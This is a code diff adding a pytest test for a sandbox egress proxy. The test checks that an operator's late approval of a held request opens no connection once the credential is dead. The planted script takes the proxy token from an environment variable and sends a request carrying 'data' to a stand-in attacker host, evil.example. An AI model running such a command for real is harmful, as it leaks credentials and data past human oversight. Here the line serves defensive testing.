@@ -24,7 +24,7 @@ import pytest
 
 from gatekeeper.app import Gatekeeper
 
-from ..helpers import poll_until, running
+from ..helpers import ops_auth, poll_until, running, wait_for_pending
 from .conftest import Agent, Outside, runner_config
 from .test_effects_recorded import _records
 from .test_live_fire import PROXY_CONNECT, _running_with
@@ -565,3 +565,34 @@ async def test_a_sandbox_s_credential_opens_nothing_outside_it(
     await call
     assert status.startswith("HTTP/1.1 407"), status
     assert outside.pypi_hits == []
+
+
+async def test_a_connection_approved_after_its_call_ended_is_not_made(
+    agent: Agent, contained: Gatekeeper, outside: Outside
+) -> None:
+    """A held plain-HTTP request (its path can carry data) whose call ended while it waited: the
+    approval that comes later connects nothing, as the credential it came with is dead."""
+    await agent.plant(
+        "fire.py",
+        "import base64, os, socket\n"
+        "token = os.environ['HTTPS_PROXY'].split('@')[0].rsplit(':', 1)[1]\n"
+        "auth = base64.b64encode(('gatekeeper:' + token).encode()).decode()\n"
+        "s = socket.create_connection(('127.0.0.1', 3128))\n"
+        "s.sendall(('GET http://evil.example/s3cret HTTP/1.1\\r\\nProxy-Authorization: Basic ' + auth\n"
+        "           + '\\r\\n\\r\\n').encode())\n",
+    )
+    egress = contained.egress
+    assert egress is not None
+    egress.settings = replace(egress.settings, hold_seconds=10.0)
+    result = await agent.sh("python3 fire.py")  # sends, and the call ends
+    assert result["exit_code"] == 0, result
+    approval_id = await wait_for_pending(agent.http, contained)
+    assert len(contained.credentials) == 0
+    async with agent.http.post(
+        f"{contained.operator_url}/v1/approvals/{approval_id}/approve",
+        json={"comment": "late"},
+        headers=ops_auth(contained),
+    ) as r:
+        assert r.status == 200, await r.text()
+    await asyncio.sleep(0.5)
+    assert outside.evil.connections == 0
